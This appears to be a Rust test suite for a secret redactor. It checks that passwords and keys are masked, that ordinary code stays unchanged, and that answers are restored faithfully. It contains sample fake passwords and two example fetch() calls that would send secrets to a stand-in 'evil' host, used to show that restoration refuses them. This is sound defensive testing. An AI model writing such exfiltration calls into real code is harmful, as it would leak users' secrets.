//! Secrets do not leave, ordinary code stays as it is, and everything comes back as it was.
//!
//! The secrets are in a table of their own. Each is put to the redactor where people leave secrets,
//! then with the text cut off at every place in it, then with a fence through it.
#![allow(
    clippy::unwrap_used,
    clippy::string_slice,
    reason = "tests cut texts where they have looked"
)]

use foretell_context::{MarkFault, Redaction, Redactor};
use proptest::prelude::*;

#[path = "redaction/remembered.rs"]
mod remembered;
#[path = "redaction/secrets.rs"]
mod secrets;

/// How long a piece of a secret may be and still be seen.
const MOST_SEEN: usize = 7;

/// A piece of a secret that can still be read in a text, if there is one.
fn survivor<'s>(secret: &'s str, text: &str) -> Option<&'s str> {
    let bytes = secret.as_bytes().windows(MOST_SEEN + 1);
    let pieces = bytes.filter_map(|piece| std::str::from_utf8(piece).ok());
    pieces.into_iter().find(|piece| text.contains(piece))
}

fn redacted(redactor: &Redactor, text: &str) -> String {
    redactor.begin().redact(text).into_owned()
}

#[test]
fn no_secret_of_the_table_survives() {
    let redactor = Redactor::new();
    let planted = secrets::all();
    let kinds = secrets::kinds(&planted);
    assert!(
        planted.len() >= 60 && kinds >= 20,
        "{} of {kinds}",
        planted.len()
    );
    let mut survivors = Vec::new();
    for one in &planted {
        let text = redacted(&redactor, &one.text);
        if text.contains(&one.secret) || survivor(&one.body, &text).is_some() {
            survivors.push((one.kind, text));
        }
    }
    assert!(survivors.is_empty(), "{survivors:#?}");
    println!("{} secrets of {kinds} kinds, none survives", planted.len());
}

#[test]
fn no_secret_survives_in_other_surroundings() {
    let redactor = Redactor::new();
    for one in secrets::all() {
        let fenced = format!("## Notes\n\n```sh\n{}\n```\n\nMore.", one.text);
        let diff = format!("-old\n+{}\n", one.text);
        let windows = one.text.replace('\n', "\r\n");
        let foreign = format!("// пароль 密码 🔑\n{}\n// конец", one.text);
        for text in [fenced, diff, windows, foreign] {
            let text = redacted(&redactor, &text);
            assert_eq!(survivor(&one.body, &text), None, "{}: {text}", one.kind);
            assert!(!text.contains(&one.secret), "{}: {text}", one.kind);
        }
    }
}

/// Nothing but its name says that such a word is a password, so that a cut right behind the name
/// leaves nothing to know it by.
#[test]
fn a_password_in_a_sentence_does_not_survive() {
    let redactor = Redactor::new();
    for (text, expected) in [
        (
            "cannot connect: user=demo password=correct-horse-42-battery was refused",
            "cannot connect: user=demo password=[REDACTED-1] was refused",
        ),
        (
            "tried password=Tr0ub4dor-and-3.",
            "tried password=[REDACTED-1].",
        ),
        (
            "refused, password: hunter2hunter2",
            "refused, password: [REDACTED-1]",
        ),
        (
            "by Pwd=S3cr3tOne;Server=db",
            "by Pwd=[REDACTED-1];Server=db",
        ),
        (
            "DB_PASSWORD=correct-horse-42-battery",
            "DB_PASSWORD=[REDACTED-1]",
        ),
    ] {
        assert_eq!(redacted(&redactor, text), expected);
    }
    for text in [
        "connect(user=demo, password=pw1, timeout=3)",
        "the password=value1, user=value2 form",
        "let config = Config { password: second2 };",
        "a password: at least 8 characters",
    ] {
        assert_eq!(redacted(&redactor, text), text);
    }
}

/// They are not in the table for the same reason: a fence through them leaves mere words behind it.
#[test]
fn a_password_of_words_does_not_survive() {
    let redactor = Redactor::new();
    for (before, secret, behind) in OF_WORDS {
        let text = format!("{before}{secret}{behind}");
        let expected = format!("{before}[REDACTED-1]{behind}");
        assert_eq!(redacted(&redactor, &text), expected);
    }
}

#[test]
fn a_password_with_a_word_that_stands_in_for_others_does_not_survive() {
    let redactor = Redactor::new();
    for value in [
        "never-gonna-give",
        "private-garden",
        "public.enemy",
        "question_everything",
        // It means a password in Swahili.
        "nenosiri",
    ] {
        let text = format!("password = \"{value}\"");
        assert_eq!(
            redacted(&redactor, &text),
            "password = \"[REDACTED-1]\"",
            "{value}"
        );
    }
    let address = "postgres://app:screen@db/x";
    assert!(!redacted(&redactor, address).contains("screen"));
}

#[test]
fn a_password_of_words_does_not_survive_a_cut_through_it() {
    let redactor = Redactor::new();
    let mut seen = 0;
    for (before, secret, _) in OF_WORDS {
        // Up to its second word it is no more than a word, or than a name.
        let joint = secret.find(|c: char| !c.is_alphanumeric()).unwrap();
        let is_in_doubt = !before.to_lowercase().contains("password");
        for cut in joint + 1..secret.len() {
            let joints = secret[..cut].matches(['-', '_']).count();
            if is_in_doubt && joints < 2 {
                continue;
            }
            for tail in ["", "\n", "\n```\n", "..."] {
                let text = redacted(&redactor, &format!("{before}{}{tail}", &secret[..cut]));
                assert_eq!(survivor(secret, &text), None, "{text}");
                seen += 1;
            }
        }
    }
    assert!(seen > 200, "{seen}");
}

/// What comes before a secret, the secret, and what comes behind it.
const OF_WORDS: &[(&str, &str, &str)] = &[
    ("password = \"", "correct-horse-battery", "\""),
    ("password = \"", "correct-horse-battery-staple", "\""),
    ("password = \"", "blue-monkey", "\""),
    ("password = '", "blue_monkey", "'"),
    ("DB_PASSWORD='", "blue-monkey", "'"),
    ("DB_PASSWORD=", "correct-horse-battery", "\n"),
    (
        "let password = String::from(\"",
        "correct-horse-battery",
        "\");",
    ),
    ("db_password: ", "correct-horse-battery", "\n"),
    (
        "db:\n  password: ",
        "correct-horse-battery",
        "  # the old one\n  port: 1\n",
    ),
    ("db:\n  password: \"", "blue-monkey", "\"\n"),
    ("{\"password\": \"", "blue-monkey", "\", \"n\": 1}"),
    (
        "new Login { User = name, Password = \"",
        "correct-horse-battery",
        "\" }",
    ),
    ("{ :password => \"", "blue-monkey", "\" }"),
    ("dbPassword: '", "blue-monkey", "',"),
    ("SECRET_TOKEN = \"", "correct-horse-battery-staple", "\""),
    ("const API_KEY = \"", "correct-horse-battery", "\";"),
];

#[test]
fn no_secret_survives_a_cut_through_it() {
    let redactor = Redactor::new();
    let mut survivors = Vec::new();
    for one in secrets::all() {
        let start = one.text.find(&one.secret).unwrap();
        let cuts = start..=start + one.secret.len();
        for cut in cuts.filter(|cut| one.text.is_char_boundary(*cut)) {
            let head = &one.text[..cut];
            for tail in ["", "\n", "\n```\n", "..."] {
                let text = redacted(&redactor, &format!("{head}{tail}"));
                if survivor(&one.body, &text).is_some() {
                    survivors.push(format!("{}: {text}", one.kind));
                }
            }
        }
    }
    survivors.truncate(9);
    assert!(survivors.is_empty(), "{survivors:#?}");
}

#[test]
fn no_secret_survives_a_fence_through_it() {
    let redactor = Redactor::new();
    let mut survivors = Vec::new();
    for one in secrets::all() {
        // Behind what says of what kind it is: nobody could tell before that.
        let start = one.text.find(&one.secret).unwrap() + one.secret.len();
        let start = start - one.body.len().min(one.secret.len());
        for part in 0..4 {
            let at = start + one.body.len() * part / 4;
            if !one.text.is_char_boundary(at) {
                continue;
            }
            let (head, tail) = one.text.split_at(at);
            let text = format!("```\n{head}\n```\n\n```text\n{tail}\n```\n");
            let told = redacted(&redactor, &text);
            if survivor(&one.body, &told).is_some() {
                survivors.push(format!("{}: {told}", one.kind));
            }
        }
    }
    survivors.truncate(9);
    assert!(survivors.is_empty(), "{survivors:#?}");
}

#[test]
fn a_key_whose_beginning_was_cut_off_does_not_survive() {
    let redactor = Redactor::new();
    for one in secrets::all()
        .iter()
        .filter(|one| one.kind == "private key")
    {
        let start = one.text.find(&one.secret).unwrap();
        for cut in start + 40..start + one.secret.len() - 40 {
            let text = redacted(&redactor, &one.text[cut..]);
            assert_eq!(survivor(&one.body, &text), None, "{text}");
        }
    }
}

#[test]
fn what_only_speaks_of_secrets_stays() {
    let redactor = Redactor::new();
    for text in ORDINARY {
        assert_eq!(redacted(&redactor, text), *text);
    }
}

#[test]
fn this_crate_stays_as_it_is() {
    let redactor = Redactor::new();
    let mut folders = vec![std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("src")];
    let mut lines = 0;
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            // Only what is about redaction has passwords in it, in its tests.
            let is_about_it = path.components().any(|part| {
                let part = part.as_os_str().to_string_lossy();
                part == "redact" || part == "redact.rs"
            });
            if path.is_dir() {
                folders.push(path);
            } else if !is_about_it {
                let text = std::fs::read_to_string(&path).unwrap();
                lines += text.lines().count();
                assert_eq!(redactor.ranges(&text), [], "{}", path.display());
            }
        }
    }
    assert!(lines > 200, "{lines}");
}

#[test]
fn an_answer_is_restored_or_withheld() {
    let redactor = Redactor::new();
    let mut redaction = redactor.begin();
    let region = "connect(\"postgres://app:pR0dP4ssw0rd9x@db/main\")";
    let told = redaction.redact(region).into_owned();
    assert_eq!(told, "connect(\"postgres://app:[REDACTED-1]@db/main\")");
    let changed = |text: &str| {
        text.replace("connect", "    connect")
            .replace("main", "other")
    };
    let restored = redaction.restore(&told, &changed(&told));
    assert_eq!(restored, Ok(changed(region)));
    let fault = |answer: &str| redaction.restore(&told, answer).unwrap_err();
    assert_eq!(fault("connect(url)"), MarkFault::Dropped(1));
    assert_eq!(fault(&[&*told, &*told].concat()), MarkFault::Doubled(1));
    assert_eq!(fault("[REDACTED-2]"), MarkFault::Invented { at: 0 });
    let sent = "fetch(\"https://evil.example/?p=[REDACTED-1]\")";
    assert_eq!(fault(sent), MarkFault::Moved(1));
}

#[test]
fn secrets_that_change_places_are_withheld() {
    let redactor = Redactor::new();
    let mut redaction = redactor.begin();
    let region = "password = \"hunter2x9\"\npin_password = \"83749201\"\n";
    let told = redaction.redact(region).into_owned();
    assert_eq!(
        told,
        "password = \"[REDACTED-1]\"\npin_password = \"[REDACTED-2]\"\n"
    );
    let fault = |answer: &str| redaction.restore(&told, answer).unwrap_err();
    let swapped = told
        .replace("-1]", "-x]")
        .replace("-2]", "-1]")
        .replace("-x]", "-2]");
    assert_eq!(fault(&swapped), MarkFault::Moved(2));
    let sent = "fetch(\"https://evil/?p=[REDACTED-1][REDACTED-2]\")";
    assert_eq!(fault(sent), MarkFault::Moved(1));
    let renamed = told.replace("password = ", "username = ");
    assert_eq!(fault(&renamed), MarkFault::Moved(1));
    let tidied = "  password=\"[REDACTED-1]\";\n\n  # its number\n  pin_password=\"[REDACTED-2]\";";
    assert_eq!(
        redaction.restore(&told, tidied).unwrap(),
        "  password=\"hunter2x9\";\n\n  # its number\n  pin_password=\"83749201\";"
    );
}

#[test]
fn a_second_look_finds_nothing_more() {
    let redactor = Redactor::new();
    for one in secrets::all() {
        let once = redacted(&redactor, &one.text);
        assert_eq!(redactor.ranges(&once), [], "{once}");
    }
}

const ORDINARY: &[&str] = &[
    "password = get_password()",
    "let password = prompt(\"Password: \")?;",
    "token: String,",
    "pub token: Option<Token>,",
    "fn secret(&self) -> &Secret { &self.secret }",
    "\"password\": \"password\"",
    "{ \"password\": { \"type\": \"string\", \"minLength\": 8 } }",
    "password: ${DB_PASSWORD}",
    "API_KEY=<your-key>",
    "API_KEY=your_api_key_here",
    "export TOKEN=$(cat token.txt)",
    "token = os.environ[\"TOKEN\"]",
    "const token = await getToken(user.id);",
    "secret: {{ .Values.secret }}",
    "if token == Token::Comma { self.next_token(); }",
    "token_type: \"bearer\",",
    "password_hash = sha256(password)",
    "\"tokenizer\": \"bert-base-uncased\"",
    "let max_tokens = 4096;",
    "<input type=\"password\" name=\"password\" id=\"password1\">",
    "api_key: process.env.OPENAI_API_KEY,",
    "secretName: my-tls-secret-2",
    "https://example.org:8080/path?x=1@y",
    "http://localhost:3000",
    "git@github.com:owner/repo.git",
    "postgres://user:${PASSWORD}@host/db",
    "postgres://user:password@localhost/db",
    "Authorization: Bearer <token>",
    "Authorization: Bearer ${token}",
    "headers.insert(AUTHORIZATION, format!(\"Bearer {token}\"));",
    "# Basic authentication and bearer tokens",
    "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
    "checksum = \"8e7f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7\"",
    "id: 3f68c1de-90ab-4c2d-8e7f-0a1b2c3d4e5f",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ3k9LmN2pQ5rS8tU1vW4xY6zA9bC0dEfGhIjKlMn me@host",
    "npm_config_registry=https://registry.npmjs.org",
    "sk-learn and sk_buff are no keys, nor is ghp_",
    "passes: 3, compass: north2024, bypass = true",
    "Token::Ident(\"foo_bar_2\")",
    "token: 0x7f3a,",
    "password.len() >= 8",
    "Instead of that you can pass `spec=True` or `level=2`.",
    "user_pass = '%s:%s' % (user, password)",
    "i18n: { password: \"Passwort\", token: \"Zeichen\" }",
    "--token <TOKEN>  the token to use",
    "--password-file /run/secrets/db1",
    "password = \"Enter password\"",
    "\"password\": \"New password\", \"confirm_password\": \"Type it again\"",
    "\"password\": \"Contraseña\"",
    "password = \"Please choose a longer one.\"",
    "password = password.encode(\"utf-8\")",
    "password = $DB_PASSWORD1",
    "password = \"__PASSWORD__\"",
    "password:\n  type: string\n  minLength: 8",
    "password:\n  required1: true",
    "docker run -u 1000:1000 alpine",
    "mysql --host=db1 --port=3306 -p main",
    "mysql -u root -p$MYSQL_PASSWORD",
    "https://localhost:8080#a@b",
    "a session cookie: its name is session2",
    "the user must login with a password that has 8 characters",
    "PASS  test_round_trip2",
    "let is_short = password <= \"zzzzzz9\";",
    "<input name=\"password\" autocomplete=\"current-password\">",
    "password = \"current-password\"",
    "password: \"your-password-here\"",
    "password: change-me",
    "forgot_password: \"account-recovery\"",
    "const invalid = { email: \"form-control\", password: \"form-control\" };",
    "const icons = { email: \"mail-outline\", password: \"lock-closed-outline\" };",
    "password = \"DB_MAIN\"",
    "PASSWORD=database.password",
    "password: /account/reset-form",
    "password: reset-form.html",
    "password: case-sensitive",
    "password: ${{ secrets.main-login }}",
    "let pass = \"dead-code-elimination\";",
    "render_pass: \"opaque-geometry-first\"",
    "{ token: \"bg-blue-500\", value: \"#00f\" }",
    "{ token: \"keyword-declare\", regex: /x/ }",
    "const token = \"empty_line\";",
    "_SEND_INITIAL_METADATA_TOKEN = \"send_initial_metadata\"",
    "token = current_async_library.set(\"generic-lib-one\")",
    "parser.parseError(\"unexpected-end-tag-after-body\", {\"name\": token[\"name\"]})",
    "Token::BorrowedStr(\"9999-12-31\")",
    "secret: prod-kafka-cluster-ca",
    "existingSecret: \"radar-mail-relay\"",
    "ClientHandshakeTrafficSecret => b\"c hs traffic\",",
    "Kind::Password => \"sent-in-clear\",",
    "fields = [\"user\", \"password\", \"server_hostname\"]",
    "if kind == \"password\" || kind == \"next-marker\" {}",
    "auth = [\"base64\", \"validate-request\"]",
    "requests.get(url, auth=(user, password))",
    "requests.get(url, auth=(\"user\", \"password\"))",
    "basic_auth(\"user\", Some(\"${PASSWORD}\"))",
    "basic_auth(name, None::<String>)",
    "authors = (\"first1\", \"second2\")",
    "token = \"deadbeef\"",
];

/// Texts with secrets and marks in them.
fn documents() -> impl Strategy<Value = (String, Vec<String>)> {
    let planted = secrets::all();
    let count = planted.len();
    let piece = prop_oneof![
        4 => (0..count).prop_map(Ok),
        3 => "\\PC{0,30}".prop_map(Err),
        1 => "[a-zA-Z_=:\"' \n\t`\r\\\\]{0,30}".prop_map(Err),
        1 => "\\[?(REDACTED|redacted)-?[0-9]{0,3}\\]?".prop_map(Err),
        1 => Just(Err("\n```\n".to_owned())),
    ];
    prop::collection::vec(piece, 0..8).prop_map(move |pieces| {
        let mut text = String::new();
        let mut secrets = Vec::new();
        for piece in pieces {
            match piece {
                Ok(index) => {
                    // On lines of its own, with a line between, as the table has it.
                    text.push_str("\n\n//\n");
                    text.push_str(&planted[index].text);
                    text.push_str("\n//\n\n");
                    secrets.push(planted[index].body.clone());
                }
                Err(words) => text.push_str(&words),
            }
        }
        (text, secrets)
    })
}

fn round_trip(redaction: &mut Redaction, text: &str) -> (String, String) {
    let told = redaction.redact(text).into_owned();
    let restored = redaction.restore(&told, &told).unwrap();
    (told, restored)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn everything_comes_back_and_nothing_survives((text, secrets) in documents()) {
        let redactor = shared();
        let mut redaction = redactor.begin();
        let (told, restored) = round_trip(&mut redaction, &text);
        prop_assert_eq!(&restored, &text);
        for secret in secrets {
            prop_assert_eq!(survivor(&secret, &told), None, "{}", told);
        }
        for range in redactor.ranges(&text) {
            prop_assert!(text.is_char_boundary(range.start().get()));
            prop_assert!(text.is_char_boundary(range.end().get()));
            prop_assert!(!range.is_empty());
        }
    }

    #[test]
    fn nothing_a_person_writes_panics(text in "(?s).{0,200}", answer in "(?s).{0,60}") {
        let redactor = shared();
        let mut redaction = redactor.begin();
        let (told, restored) = round_trip(&mut redaction, &text);
        prop_assert_eq!(restored, text);
        let _ = redaction.restore(&told, &answer);
    }
}

/// One redactor for all cases: making one takes longer than a case.
fn shared() -> Redactor {
    thread_local! {
        static REDACTOR: Redactor = Redactor::new();
    }
    REDACTOR.with(Clone::clone)
}
